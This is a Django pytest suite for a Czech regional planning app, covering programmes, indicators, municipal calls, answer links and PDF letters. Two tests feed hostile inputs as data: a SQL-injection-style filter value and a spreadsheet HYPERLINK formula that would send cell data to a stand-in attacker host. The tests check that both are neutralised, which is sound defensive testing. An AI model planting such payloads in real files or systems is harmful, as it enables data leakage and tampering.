"""Pages of a programme: forms, bad input, permissions beyond the role matrix, the XLSX, query counts."""

import datetime
import io

import openpyxl
import pytest
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from kpss.accounts.models import SiteRole
from kpss.meetings.models import AgendaItem, Attendance, Meeting
from kpss.processes.models import Milestone, PlanningProcess, Stage
from kpss.processes.services import create_process
from kpss.processes.tests.factories import GroupFactory, PersonFactory, UserFactory, member_user
from kpss.regional import services
from kpss.regional.models import Addressee, Call, Indicator, Programme
from kpss.territories.tests.factories import OrpFactory

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate


def url(name, *args):
    return reverse(f"regional:{name}", args=args)


def new_call(programme, days=30):
    return services.create_call(
        programme,
        title="Zapojení do projektu",
        letter="Vážený pane starosto",
        deadline=TODAY() + datetime.timedelta(days),
    )


def orp_process(orp, name=None):
    return create_process(
        name=name or f"KPSS {orp.name}",
        region=orp.region,
        orp=orp,
        starts_on=datetime.date(2025, 1, 1),
        ends_on=datetime.date(2027, 12, 31),
    )


@pytest.fixture
def officer_client(client, vysocina):
    client.force_login(vysocina.officer)
    return client


# Programmes


def test_the_list_is_public_and_filters_by_region_ignoring_garbage(client, vysocina):
    other = services.create_programme(
        UserFactory(), name="Program jinde", region=OrpFactory().region, starts_on=TODAY(), ends_on=TODAY()
    )
    page = client.get(url("list"), {"region": vysocina.region.pk})
    assert list(page.context["page"].object_list) == [vysocina.programme.process]
    assert client.get(url("list"), {"region": "x'; drop", "page": "abc"}).status_code == 200
    assert set(client.get(url("list")).context["page"].object_list) == {vysocina.programme.process, other.process}


def test_an_officer_creates_a_programme_only_in_their_region(officer_client, vysocina):
    form = officer_client.get(url("create")).context["form"]
    assert list(form.fields["region"].queryset) == [vysocina.region]
    data = {"name": "Druhý program", "starts_on": "2027-01-01", "ends_on": "2028-12-31", "status": "preparation"}
    elsewhere = OrpFactory().region
    response = officer_client.post(url("create"), {**data, "region": elsewhere.pk})
    assert response.status_code == 200
    assert response.context["form"].errors["region"]
    assert response.context["form"]["name"].value() == "Druhý program"
    assert Programme.objects.count() == 1

    response = officer_client.post(url("create"), {**data, "region": vysocina.region.pk})
    programme = Programme.objects.get(process__name="Druhý program")
    assert response.url == programme.get_absolute_url()
    assert programme.process.scope == PlanningProcess.Scope.REGION
    assert list(programme.process.coordinators.all()) == [vysocina.officer]


def test_the_end_of_the_programme_may_not_come_before_its_start(officer_client, vysocina):
    data = {"name": "X", "region": vysocina.region.pk, "starts_on": "2027-01-01", "ends_on": "2026-01-01"}
    response = officer_client.post(url("create"), {**data, "status": "preparation"})
    assert response.context["form"].errors["ends_on"]
    assert Programme.objects.count() == 1


def test_a_colleague_of_the_region_sees_the_calls_but_changes_nothing(client, vysocina):
    call = new_call(vysocina.programme)
    client.force_login(vysocina.colleague)
    assert client.get(url("call", vysocina.programme.pk, call.pk)).status_code == 200
    assert client.get(url("call_emails", vysocina.programme.pk, call.pk)).status_code == 403
    assert client.get(url("edit", vysocina.programme.pk)).status_code == 403
    page = client.get(url("programme", vysocina.programme.pk)).content.decode()
    assert call.get_absolute_url() in page
    assert url("edit", vysocina.programme.pk) not in page


def test_the_public_sees_the_tally_but_not_who_answered(client, vysocina):
    call = new_call(vysocina.programme)
    addressee = call.addressees.get(orp=vysocina.orps["Telč"])
    services.answer_through_link(addressee, answer="yes", representative="Roman Fabeš")
    response = client.get(url("programme", vysocina.programme.pk))
    assert response.context["calls"][0].tally["orp"] == {"total": 15, "yes": 1, "no": 0, "waiting": 14}
    page = response.content.decode()
    assert "Roman Fabeš" not in page
    assert call.get_absolute_url() not in page
    assert client.get(url("call", vysocina.programme.pk, call.pk)).status_code == 302


def test_the_programme_page_shows_participating_processes_seminars_and_closed_ones_only_to_insiders(client, vysocina):
    programme = vysocina.programme
    services.link_process(programme, orp_process(vysocina.orps["Jihlava"]))
    start = timezone.now() - datetime.timedelta(days=3)
    open_seminar = Meeting.objects.create(
        process=programme.process, kind="seminar", title="1. seminář", starts_at=start, status="held"
    )
    AgendaItem.objects.create(meeting=open_seminar, title="Co je komunitní plánování")
    Attendance.objects.create(meeting=open_seminar, guest_name="Eva Malá")
    closed = Meeting.objects.create(
        process=programme.process, kind="workshop", title="Interní workshop", starts_at=start, is_open=False
    )
    closed_of_a_group = Meeting.objects.create(
        process=programme.process,
        group=GroupFactory(process=programme.process, kind="working", name="Lektoři"),
        kind="seminar",
        title="Porada lektorů",
        starts_at=start,
        is_open=False,
    )
    response = client.get(url("programme", programme.pk))
    page = response.content.decode()
    assert "KPSS Jihlava" in page
    assert "Co je komunitní plánování" in page
    assert open_seminar.get_absolute_url() in page
    assert "Interní workshop" not in page and closed.get_absolute_url() not in page
    assert response.context["trained"] == 1  # counted over every seminar, names of none
    # A member of another group of the programme sees the closed meetings of the whole process, not of that group.
    participant = member_user(GroupFactory(process=programme.process, kind="working"))
    client.force_login(participant)
    seminars = client.get(url("programme", programme.pk)).context["seminars"].object_list
    assert {meeting.title for meeting in seminars} == {"1. seminář", "Interní workshop"}
    client.force_login(vysocina.colleague)  # an officer of the region oversees the programme
    page = client.get(url("programme", programme.pk)).content.decode()
    assert closed.get_absolute_url() in page and closed_of_a_group.get_absolute_url() in page


def test_the_region_is_locked_once_the_programme_has_a_call_or_a_process(officer_client, vysocina):
    programme = vysocina.programme
    elsewhere = OrpFactory().region
    SiteRole.objects.create(user=vysocina.officer, kind=SiteRole.Kind.REGIONAL_OFFICER, region=elsewhere)
    data = {"name": "Program", "starts_on": "2025-01-01", "ends_on": "2026-10-31", "status": "running"}
    jihlava = orp_process(vysocina.orps["Jihlava"])
    services.link_process(programme, jihlava)
    response = officer_client.post(url("edit", programme.pk), {**data, "region": elsewhere.pk})
    assert response.status_code == 200 and response.context["form"].errors["region"]
    services.unlink_process(programme, jihlava)
    new_call(programme)
    response = officer_client.post(url("edit", programme.pk), {**data, "region": elsewhere.pk})
    assert response.status_code == 200 and response.context["form"].errors["region"]
    assert response.context["form"]["name"].value() == "Program"
    programme.process.refresh_from_db()
    assert programme.process.region == vysocina.region
    # Other data may still change, the region kept.
    assert officer_client.post(url("edit", programme.pk), {**data, "region": vysocina.region.pk}).status_code == 302
    programme.calls.all().delete()
    assert officer_client.post(url("edit", programme.pk), {**data, "region": elsewhere.pk}).status_code == 302
    programme.process.refresh_from_db()
    assert programme.process.region == elsewhere


def test_editing_the_programme_changes_its_process(officer_client, vysocina):
    programme = vysocina.programme
    data = {
        "name": "Nový název",
        "region": vysocina.region.pk,
        "starts_on": "2025-01-01",
        "ends_on": "2026-10-31",
        "status": "running",
        "budget": "1609236.80",
        "funding_note": "SROP, opatření 3.2",
    }
    assert officer_client.post(url("edit", programme.pk), data).status_code == 302
    programme.process.refresh_from_db()
    assert (programme.process.name, str(programme.process.budget)) == ("Nový název", "1609236.80")
    assert programme.process.scope == "region"


# Indicators


def test_adding_an_indicator_and_refusing_bad_input(officer_client, vysocina):
    programme = vysocina.programme
    response = officer_client.post(url("indicator_add", programme.pk), {"name": "Proškolení", "measure": "trained"})
    assert response.context["form"].errors["target"]
    response = officer_client.post(
        url("indicator_add", programme.pk), {"name": "Proškolení", "measure": "trained", "target": "0"}
    )
    assert response.context["form"].errors["target"]
    response = officer_client.post(
        url("indicator_add", programme.pk),
        {"name": "Proškolení", "measure": "trained", "target": "30", "entered_value": "12"},
    )
    assert response.context["form"].errors["entered_value"]
    assert not Indicator.objects.exists()
    officer_client.post(
        url("indicator_add", programme.pk), {"name": "Proškolení", "measure": "trained", "target": "30"}
    )
    officer_client.post(
        url("indicator_add", programme.pk), {"name": "Místa", "measure": "entered", "target": "4", "entered_value": "1"}
    )
    assert list(programme.indicators.values_list("name", "order", "entered_value")) == [
        ("Proškolení", 1, None),
        ("Místa", 2, 1),
    ]


def test_an_indicator_of_another_programme_is_a_404(officer_client, vysocina):
    other = services.create_programme(
        vysocina.officer, name="Jiný", region=vysocina.region, starts_on=TODAY(), ends_on=TODAY()
    )
    foreign = Indicator.objects.create(programme=other, name="Cizí", measure="plans", target=8)
    assert officer_client.get(url("indicator_edit", vysocina.programme.pk, foreign.pk)).status_code == 404
    assert officer_client.post(url("indicator_delete", vysocina.programme.pk, foreign.pk)).status_code == 404
    assert Indicator.objects.filter(pk=foreign.pk).exists()
    officer_client.post(url("indicator_delete", other.pk, foreign.pk))
    assert not Indicator.objects.filter(pk=foreign.pk).exists()


def test_the_indicators_as_a_workbook(client, vysocina):
    programme = vysocina.programme
    Indicator.objects.create(programme=programme, name="Komunitní plány", measure="plans", target=8, order=1)
    Indicator.objects.create(
        programme=programme, name="Místa koordinátorů", measure="entered", target=4, entered_value=3, order=2
    )
    Indicator.objects.create(
        programme=programme, name="Aktivní lidé", measure="entered", target=200, entered_value=230, order=3
    )
    response = client.get(url("indicators_xlsx", programme.pk))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert [(name, target, value, percent) for name, _how, target, value, percent, _met in rows] == [
        ("Komunitní plány", 8, 0, 0),
        ("Místa koordinátorů", 4, 3, 0.75),
        ("Aktivní lidé", 200, 230, 1.15),
    ]
    assert sheet["A1"].value == str(programme)


def test_an_indicator_name_never_becomes_a_formula_in_the_workbook(client, vysocina):
    name = '=HYPERLINK("https://zle.example/?"&A1,"Klikněte")'
    Indicator.objects.create(programme=vysocina.programme, name=name, measure="plans", target=8)
    response = client.get(url("indicators_xlsx", vysocina.programme.pk))
    cell = openpyxl.load_workbook(io.BytesIO(response.content)).active["A3"]
    assert (cell.value, cell.data_type) == (name, "s")


# Participating processes


def test_linking_a_process_of_the_region_only(officer_client, vysocina):
    programme = vysocina.programme
    jihlava = orp_process(vysocina.orps["Jihlava"])
    foreign = orp_process(OrpFactory())
    choices = officer_client.get(url("process_link", programme.pk)).context["form"].fields["process"].queryset
    assert list(choices) == [jihlava]  # not the programme's own process, not another region's
    response = officer_client.post(url("process_link", programme.pk), {"process": foreign.pk})
    assert response.context["form"].errors["process"]
    officer_client.post(url("process_link", programme.pk), {"process": jihlava.pk})
    assert list(programme.participating_processes.all()) == [jihlava]
    assert officer_client.post(url("process_unlink", programme.pk, foreign.pk)).status_code == 404
    officer_client.post(url("process_unlink", programme.pk, jihlava.pk))
    assert not programme.participating_processes.exists()


# Calls


def test_creating_a_call_with_the_default_letter(officer_client, vysocina):
    programme = vysocina.programme
    form = officer_client.get(url("call_create", programme.pk)).context["form"]
    assert programme.process.name in form.initial["letter"]
    assert "Agora Central Europe" in form.initial["letter"]
    data = {
        "title": "Výzva",
        "letter": form.initial["letter"],
        "deadline": (TODAY() - datetime.timedelta(1)).isoformat(),
    }
    response = officer_client.post(url("call_create", programme.pk), data)
    assert response.context["form"].errors["deadline"]
    assert not Call.objects.exists()
    response = officer_client.post(url("call_create", programme.pk), {**data, "deadline": "2099-03-31"})
    call = Call.objects.get()
    assert response.url == url("call_emails", programme.pk, call.pk)
    assert call.addressees.count() == 26


def test_filling_addresses_refuses_bad_ones_and_foreign_ids(officer_client, vysocina):
    programme = vysocina.programme
    call = new_call(programme)
    other_call = new_call(programme)
    addressees = list(call.addressees.select_related("orp", "pou"))
    data = {"form-TOTAL_FORMS": str(len(addressees)), "form-INITIAL_FORMS": str(len(addressees))}
    for index, addressee in enumerate(addressees):
        data[f"form-{index}-id"] = str(addressee.pk)
        data[f"form-{index}-email"] = ""
    data["form-0-email"] = "not an address"
    data["form-1-email"] = "posta@obec.example"
    response = officer_client.post(url("call_emails", programme.pk, call.pk), data)
    assert response.status_code == 200
    assert response.context["formset"].total_error_count() == 1
    assert not Addressee.objects.exclude(email="").exists()
    assert 'value="posta@obec.example"' in response.content.decode()

    data["form-0-email"] = "podatelna@obec.example"
    data["form-2-id"] = str(other_call.addressees.first().pk)
    data["form-2-email"] = "cizi@obec.example"
    response = officer_client.post(url("call_emails", programme.pk, call.pk), data)
    assert response.status_code == 200
    assert not Addressee.objects.exclude(email="").exists()

    data["form-2-id"] = str(addressees[2].pk)
    data["form-2-email"] = ""
    response = officer_client.post(url("call_emails", programme.pk, call.pk), data)
    assert response.url == call.get_absolute_url()
    assert set(Addressee.objects.exclude(email="").values_list("pk", flat=True)) == {addressees[0].pk, addressees[1].pk}
    assert officer_client.post(url("call_emails", programme.pk, call.pk), {}).status_code == 200


def test_sending_only_while_the_call_is_open(officer_client, vysocina, django_capture_on_commit_callbacks):
    programme = vysocina.programme
    call = new_call(programme)
    Addressee.objects.filter(call=call, orp=vysocina.orps["Telč"]).update(email="obec@telc.example")
    with django_capture_on_commit_callbacks(execute=True):
        officer_client.post(url("call_send", programme.pk, call.pk))
    assert [m.to for m in mail.outbox] == [["obec@telc.example"]]
    token = call.addressees.get(orp=vysocina.orps["Telč"]).token
    assert f"http://testserver/regional/answer/{token}/" in mail.outbox[0].body

    closed = new_call(programme, days=-1)
    Addressee.objects.filter(call=closed).update(email="obec@example.cz")
    with django_capture_on_commit_callbacks(execute=True):
        officer_client.post(url("call_send", programme.pk, closed.pk))
    assert len(mail.outbox) == 1
    assert not closed.addressees.filter(sent_at__isnull=False).exists()


def test_the_call_page_lists_addressees_with_their_answers(officer_client, vysocina):
    programme = vysocina.programme
    call = new_call(programme)
    services.answer_through_link(call.addressees.get(orp=vysocina.orps["Telč"]), answer="yes", representative="R. F.")
    response = officer_client.get(url("call", programme.pk, call.pk))
    assert len(response.context["addressees"]) == 26
    assert response.context["tally"]["orp"]["yes"] == 1
    assert len(response.context["on_paper"]) == 26
    telc = next(a for a in response.context["addressees"] if a.orp == vysocina.orps["Telč"])
    assert url("start_process", programme.pk, call.pk, telc.pk) in response.content.decode()


def test_without_any_address_the_call_page_asks_for_them(officer_client, vysocina):
    programme = vysocina.programme
    call = new_call(programme)
    page = officer_client.get(url("call", programme.pk, call.pk)).content.decode()
    assert 'id="no-emails"' in page and url("call_emails", programme.pk, call.pk) in page
    Addressee.objects.filter(call=call, orp=vysocina.orps["Telč"]).update(
        email="obec@telc.example", sent_at=timezone.now()
    )
    page = officer_client.get(url("call", programme.pk, call.pk)).content.decode()
    assert 'id="no-emails"' not in page


def test_a_municipality_with_processes_gets_one_linked_not_a_new_one_started(officer_client, vysocina):
    programme = vysocina.programme
    pacov = vysocina.orps["Pacov"]
    older, newer = orp_process(pacov, "KPSS Pacov 2018"), orp_process(pacov, "KPSS Pacov 2025")
    call = new_call(programme)
    addressee = call.addressees.get(orp=pacov)
    services.answer_through_link(addressee, answer="yes", representative="Lukáš Vlček")
    page = officer_client.get(url("call", programme.pk, call.pk)).content.decode()
    link = url("addressee_link", programme.pk, call.pk, addressee.pk)
    assert link in page and url("start_process", programme.pk, call.pk, addressee.pk) not in page
    officer_client.post(url("start_process", programme.pk, call.pk, addressee.pk))
    assert PlanningProcess.objects.filter(orp=pacov).count() == 2

    form = officer_client.get(link).context["form"]
    assert set(form.fields["process"].queryset) == {older, newer}
    foreign = orp_process(vysocina.orps["Telč"])
    response = officer_client.post(link, {"process": foreign.pk})
    assert response.status_code == 200 and response.context["form"].errors["process"]
    assert officer_client.post(link, {"process": "x"}).status_code == 200
    assert officer_client.post(link, {"process": newer.pk}).url == call.get_absolute_url()
    addressee.refresh_from_db()
    assert addressee.process == newer
    assert list(programme.participating_processes.all()) == [newer]
    row = officer_client.get(url("call", programme.pk, call.pk)).context["addressees"]
    assert next(a for a in row if a.pk == addressee.pk).process == newer

    other_call = new_call(programme)
    assert officer_client.get(url("addressee_link", programme.pk, other_call.pk, addressee.pk)).status_code == 404
    waiting = other_call.addressees.get(orp=pacov)
    response = officer_client.post(
        url("addressee_link", programme.pk, other_call.pk, waiting.pk), {"process": older.pk}
    )
    assert response.status_code == 302
    waiting.refresh_from_db()
    assert waiting.process is None  # only a municipality that joined


# Answers


def test_a_municipality_answers_through_its_link_and_may_change_it(client, vysocina):
    call = new_call(vysocina.programme)
    addressee = call.addressees.get(orp=vysocina.orps["Jihlava"])
    link = addressee.get_answer_url()
    assert client.get(link).status_code == 200
    response = client.post(link, {"answer": "yes", "representative": " "})
    assert response.status_code == 200 and response.context["form"].errors["representative"]
    response = client.post(link, {"answer": "maybe", "representative": "Petr Ryška"})
    assert response.context["form"].errors["answer"]
    addressee.refresh_from_db()
    assert addressee.answer == ""
    assert client.post(link, {"answer": "yes", "representative": "Petr Ryška"}).url == link
    client.post(link, {"answer": "no", "representative": "Petr Ryška"})
    addressee.refresh_from_db()
    assert (addressee.answer, addressee.channel, addressee.answered_on) == ("no", "link", TODAY())
    assert client.get(link).context["form"].initial["answer"] == "no"


def test_after_the_deadline_the_link_shows_the_answer_and_refuses_changes(client, vysocina):
    call = new_call(vysocina.programme, days=-1)
    addressee = call.addressees.get(orp=vysocina.orps["Jihlava"])
    response = client.get(addressee.get_answer_url())
    assert response.context["form"] is None
    assert "socialni@kr-vysocina.example" in response.content.decode()
    response = client.post(addressee.get_answer_url(), {"answer": "yes", "representative": "Petr Ryška"})
    assert response.status_code == 410
    addressee.refresh_from_db()
    assert addressee.answer == ""


def test_an_unknown_token_is_a_404(client, vysocina):
    new_call(vysocina.programme)
    assert client.get(url("answer", "neexistuje")).status_code == 404


def test_a_paper_answer_after_the_deadline(officer_client, vysocina):
    programme = vysocina.programme
    call = new_call(programme, days=-5)
    addressee = call.addressees.get(pou=vysocina.pous["Polná"])
    link = url("paper_answer", programme.pk, call.pk, addressee.pk)
    future = (TODAY() + datetime.timedelta(2)).isoformat()
    response = officer_client.post(link, {"answer": "yes", "representative": "Starostka", "answered_on": future})
    assert response.context["form"].errors["answered_on"]
    response = officer_client.post(link, {"answer": "yes", "answered_on": "2025-03-01"})
    assert response.context["form"].errors["representative"]
    officer_client.post(link, {"answer": "yes", "representative": "Starostka", "answered_on": "2025-03-01"})
    addressee.refresh_from_db()
    assert (addressee.answer, addressee.channel, addressee.recorded_by) == ("yes", "paper", vysocina.officer)
    other = new_call(programme)
    assert officer_client.get(url("paper_answer", programme.pk, other.pk, addressee.pk)).status_code == 404


def test_starting_a_process_only_for_a_municipality_that_joined_and_has_none(officer_client, vysocina):
    programme = vysocina.programme
    call = new_call(programme)
    telc = call.addressees.get(orp=vysocina.orps["Telč"])
    start = url("start_process", programme.pk, call.pk, telc.pk)
    officer_client.post(start)
    assert not programme.participating_processes.exists()
    services.answer_through_link(telc, answer="yes", representative="Roman Fabeš")
    officer_client.post(start)
    officer_client.post(start)  # the second click starts nothing more
    assert list(programme.participating_processes.values_list("orp__name", flat=True)) == ["Telč"]
    assert PlanningProcess.objects.filter(orp=vysocina.orps["Telč"]).count() == 1


# Queries per page


def grow(vysocina, call, n):
    """``n`` more participating processes with answers, seminars with attendance and indicators."""
    programme = vysocina.programme
    orps = list(vysocina.orps.values())
    start = programme.participating_processes.count()
    for orp in orps[start : start + n]:
        services.link_process(programme, orp_process(orp))
    for addressee in call.addressees.filter(answer="")[:n]:
        services.record_paper_answer(addressee, vysocina.officer, answer="yes", representative="S", answered_on=TODAY())
    for index in range(n):
        meeting = Meeting.objects.create(
            process=programme.process,
            kind="seminar",
            title=f"Seminář {index}",
            starts_at=timezone.now(),
            status="held",
            is_open=index % 2 == 0,
        )
        AgendaItem.objects.create(meeting=meeting, title="Téma")
        stage = Stage.objects.create(
            process=programme.process,
            name=f"Etapa {index}",
            starts_on=datetime.date(2025, 1, 1),
            ends_on=datetime.date(2025, 5, 31),
            closing_criterion="Ustaveny triády",
        )
        Milestone.objects.create(process=programme.process, stage=stage, title="Seminář", due_on=TODAY())
        Attendance.objects.create(meeting=meeting, person=PersonFactory())
    # Each measure costs its own queries (five measures at most); every size has them all.
    for measure in Indicator.Measure:
        Indicator.objects.create(programme=programme, name=measure.label, measure=measure, target=5)
    new_call(programme)


@pytest.mark.parametrize("page", ["programme", "call"])
@pytest.mark.parametrize("who", ["anonymous", "officer"])
def test_queries_per_page_do_not_grow_with_the_data(client, vysocina, page, who):
    call = new_call(vysocina.programme)
    if who == "officer":
        client.force_login(vysocina.officer)
    elif page == "call":
        client.force_login(vysocina.colleague)
    address = (
        url("programme", vysocina.programme.pk) if page == "programme" else url("call", vysocina.programme.pk, call.pk)
    )
    grow(vysocina, call, 2)
    client.get(address)
    with CaptureQueriesContext(connection) as small:
        assert client.get(address).status_code == 200
    grow(vysocina, call, 10)
    with CaptureQueriesContext(connection) as large:
        assert client.get(address).status_code == 200
    assert len(large) == len(small), [q["sql"] for q in large]


def test_only_officers_and_administrators_may_create(client, vysocina):
    coordinator = UserFactory()
    SiteRole.objects.create(user=coordinator, kind=SiteRole.Kind.COORDINATOR)
    client.force_login(coordinator)
    assert client.get(url("create")).status_code == 403


def test_the_letter_to_print_carries_the_link_and_the_reply_form(officer_client, vysocina):
    import pypdf

    programme = vysocina.programme
    call = new_call(programme)
    addressee = call.addressees.get(pou=vysocina.pous["Polná"])
    response = officer_client.get(url("paper_letter", programme.pk, call.pk, addressee.pk))
    assert response["Content-Type"] == "application/pdf"
    text = " ".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(response.content)).pages)
    assert "Polná" in text
    assert "Vážený pane starosto" in text
    assert addressee.token in text.replace("\n", "")
    other = new_call(programme)
    assert officer_client.get(url("paper_letter", programme.pk, other.pk, addressee.pk)).status_code == 404
